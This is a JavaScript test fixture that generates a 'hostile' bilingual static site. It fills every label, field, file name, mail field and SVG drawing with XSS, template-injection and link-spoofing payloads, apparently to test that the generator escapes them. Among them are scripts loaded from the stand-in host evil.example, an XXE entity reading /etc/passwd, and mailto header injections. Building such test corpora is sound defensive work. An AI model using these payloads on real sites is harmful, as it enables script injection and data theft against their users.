// A small site in which everything that can be written attacks: payloads of the classes of
// OWASP's XSS cheat sheet, and some of this project's own syntaxes, in labels, vocabularies,
// fields of every kind, texts, translations, components, file names and drawings.

import fs from "node:fs";
import path from "node:path";
import { REPOSITORY } from "./helper.js";

/** Text that would run, load, send or take over a page if it were taken for markup. */
export const PAYLOADS = [
  `<script>alert(1)</script>`, `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
  `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`,
  `<img src="https://evil.example/x.png" onerror=alert(1)>`, `<img src=x:x onerror="alert(1)">`,
  `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg/onload=alert(1)//`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">x</math>`, `<details open ontoggle=alert(1)>x</details>`,
  `<body onload=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
  `<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
  `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html,x"></object>`, `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<p style="background: url(https://evil.example/x.png)">x</p>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
  `</title><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
  `]]><script>alert(1)</script><![CDATA[`, `--><script>alert(1)</script><!--`,
  `\u2028alert(1)\u2029</script>`, `{{ get_env(name="HOME") }}{{ 7 * 191 }}`,
  `](https://evil.example/) [x`, `[x](https://evil.example/)`, `![x](https://evil.example/x.png)`, `<https://evil.example/>`,
  `{% include "base.html" %}{% raw %}`, `{# x #}{{ __tera_context }}`,
];

/** Addresses that must not become links, with what is said of them in a text and in a field. */
export const ADDRESSES = {
  "javascript:alert(1)": ["unsafe-link", "wrong-type"],
  "JaVaScRiPt:alert(1)": ["unsafe-link", "wrong-type"],
  "data:text/html,x": ["unsafe-link", "wrong-type"],
  "vbscript:msgbox(1)": ["unsafe-link", "wrong-type"],
  "jav&#x61;script:alert(1)": ["unsafe-link", "wrong-type"],
  "javascript&colon;alert(1)": ["unsafe-link", "wrong-type"],
  "&#106;avascript:alert(1)": ["unsafe-link", "wrong-type"],
  "file:///etc/passwd": ["unsafe-link", "wrong-type"],
  "//evil.example/x": ["broken-link", "wrong-type"],
  "\\\\evil.example\\x": ["broken-link", "wrong-type"],
  "https://example.org@evil.example/": ["misleading-link", "misleading-link"],
};

/** Mailboxes that are none. */
export const MAILBOXES = [
  `a@b.org" onclick="alert(1)`, "a@b.org?bcc=c@evil.example", "a%0Abcc:c@evil.example", "javascript:alert(1)@b.org",
  "a@b.org,c@evil.example", "<script>@b.org",
];

/** Drawings that run or load something. */
export const DRAWINGS = [
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/x.svg#a"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/x.png"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url(https://evil.example/x)" width="1" height="1"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:alert(1)" onbegin="alert(1)"/></svg>`,
  `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></svg>`,
];

/** Names of files that stand in addresses and attributes, and are allowed. */
export const FILES = ["x' onclick='alert(1).txt", "a&quot;b&lt;.txt", "a%22%3E%3Cb.txt", "{{ 7 + 1330 }}.txt", "a b#c,d.txt"];

const quoted = JSON.stringify;
const label = (text) => ({ lv: text, en: text });

/** JSON is YAML, so that no payload needs a form of its own. */
function write(folder, file, value, body) {
  const where = path.join(folder, "content", file);
  fs.mkdirSync(path.dirname(where), { recursive: true });
  const text = quoted(value);
  fs.writeFileSync(where, body === undefined ? text : `---\n${text}\n---\n${body}`);
}

const field = (type, name, more) => ({ type, label: label(`${name}${PAYLOADS[2]}`), help: label(PAYLOADS[3]), ...more });

const SCHEMA = {
  title: label(`Hostile${PAYLOADS[0]}`), slug: label("hostile"), description: label(PAYLOADS[5]),
  cite: true, book: true, list: true,
  fields: {
    summary: field("text", "S", { translated: true, roles: ["summary"] }),
    line: field("text", "L", { roles: ["fact"] }),
    day: field("date", "D", { roles: ["updated"] }),
    prose: field("markdown", "P", { translated: true, roles: ["fact"] }),
    kind: field("choice", "C", { roles: ["fact", "facet", "axis"], options: { a: label(PAYLOADS[7]), b: label(PAYLOADS[36]) } }),
    topics: field("terms", "T", { vocabulary: "hostile", roles: ["fact", "facet", "axis"] }),
    spot: field("place", "O", { roles: ["fact", "place"] }),
    picture: field("image", "I", { roles: ["image"] }),
    web: field("link", "W", { roles: ["fact"] }),
    mail: field("email", "M", { roles: ["fact"] }),
    people: field("list", "A", { roles: ["fact"], of: { type: "record", fields: { name: field("text", "N"), gloss: field("markdown", "G") } } }),
    sources: field("list", "Q", { roles: ["sources"], of: { type: "record", fields: {
      id: field("text", "K"), title: field("text", "H"), url: field("link", "U") } } }),
  },
};

const block = (name, parameters) => `\`\`\`${name}\n${quoted(parameters)}\n\`\`\`\n`;

/** A text with a payload in every place of it. `where` is the language that it is in. */
const bodyOf = (payload) => `Text ${payload} text.

${payload}

## Heading ${payload}

![${payload.replaceAll(/[[\]]/g, "")}](pixel.png "${payload.replaceAll(/["\n]/g, "")}")

| a | ${payload.replaceAll("|", "")} |
|---|---|
| ${payload.replaceAll("|", "")} | \`${payload}\` |

- ${payload}

> ${payload}

\`\`\`html
${payload}
\`\`\`

${block("quotation", { text: payload, who: payload, source: "s" })}
${block("figure", { image: "pixel.png", caption: payload })}
${block("key-figures", { figures: [{ value: 7, label: payload, unit: payload, source: "s" }] })}
${block("comparison", { entries: ["h0", "h1"], fields: ["line", "prose", "kind"], title: payload })}
${block("entries", { collection: "hostile", limit: 2 })}
${block("entries-map", { collection: "hostile", title: payload })}
${block("fields", { collection: "hostile" })}
Note[^1].

[^1]: ${payload}
`;

function addPayloads(folder) {
  const png = path.join(REPOSITORY, "benches/made/pixel.png");
  PAYLOADS.forEach((text, at) => {
    const front = {
      title: `Hostile${at} ${text}`, summary: text, line: text, prose: text, kind: at % 2 ? "a" : "b", day: "2026-11-22",
      topics: [`t${at}`], spot: { name: text, coordinates: [57, 25 + at / 100] },
      picture: { file: "pixel.png", alt: text, credit: text }, people: [{ name: text, gloss: text }],
      sources: [{ id: "s", title: text, url: "https://example.org/" }],
    };
    write(folder, `hostile/h${at}/en.md`, front, bodyOf(text));
    const translation = { source: "en", revision: "now", status: "unreviewed" };
    const lv = { title: `Naids${at} ${text}`, summary: text, prose: text, translation };
    if (at % 4 === 0) write(folder, `hostile/h${at}/lv.md`, lv, bodyOf(text));
    fs.copyFileSync(png, path.join(folder, `content/hostile/h${at}/pixel.png`));
  });
}

function addRefused(folder) {
  Object.keys(ADDRESSES).forEach((url, at) => {
    write(folder, `hostile/u${at}/en.md`, { title: `Refused ${at}` }, `See [this](${url}).\n`);
    write(folder, `hostile/w${at}/en.md`, { title: `Field ${at}`, web: url }, "Text.\n");
  });
  MAILBOXES.forEach((mail, at) => write(folder, `hostile/m${at}/en.md`, { title: `Mail ${at}`, mail }, "Text.\n"));
  DRAWINGS.forEach((svg, at) => {
    write(folder, `hostile/d${at}/en.md`, { title: `Drawing ${at}` }, "![A desk](x.svg) and [the file](x.svg)\n");
    fs.writeFileSync(path.join(folder, `content/hostile/d${at}/x.svg`), svg);
  });
  write(folder, "hostile/files/en.md", { title: "Files" }, FILES.map((name) => `- [file](<${encodeURIComponent(name)}>)\n`).join(""));
  for (const name of FILES) fs.writeFileSync(path.join(folder, "content/hostile/files", name), "a list");
}

/** Makes the site in `folder`, with the themes of this repository. */
export function makeHostile(folder) {
  fs.cpSync(path.join(REPOSITORY, "themes"), path.join(folder, "themes"), { recursive: true });
  const publisher = { name: label(PAYLOADS[0]), address: [PAYLOADS[5]], phone: PAYLOADS[7], host: label(PAYLOADS[3]) };
  write(folder, "site.yaml", {
    title: label(`Site ${PAYLOADS[2]}`), description: label(PAYLOADS[1]), home: "pages/home", theme: "sharing", menu: ["hostile"], publisher,
    languages: [{ code: "en", name: "English", fallback: ["lv"] }, { code: "lv", name: "Latviešu", fallback: ["en"] }],
  });
  write(folder, "pages/_collection.yaml", { slug: "", list: false });
  write(folder, "pages/home/en.md", { title: `Home ${PAYLOADS[3]}` }, block("publisher", {}));
  write(folder, "_vocabularies/hostile.yaml", {
    title: label(`V${PAYLOADS[0]}`), slug: label("v"), description: label(PAYLOADS[5]),
    terms: Object.fromEntries(PAYLOADS.map((text, at) => [`t${at}`, { label: label(`T${at} ${text}`), description: label(text) }])),
  });
  write(folder, "hostile/_collection.yaml", SCHEMA);
  addPayloads(folder);
  addRefused(folder);
  return folder;
}
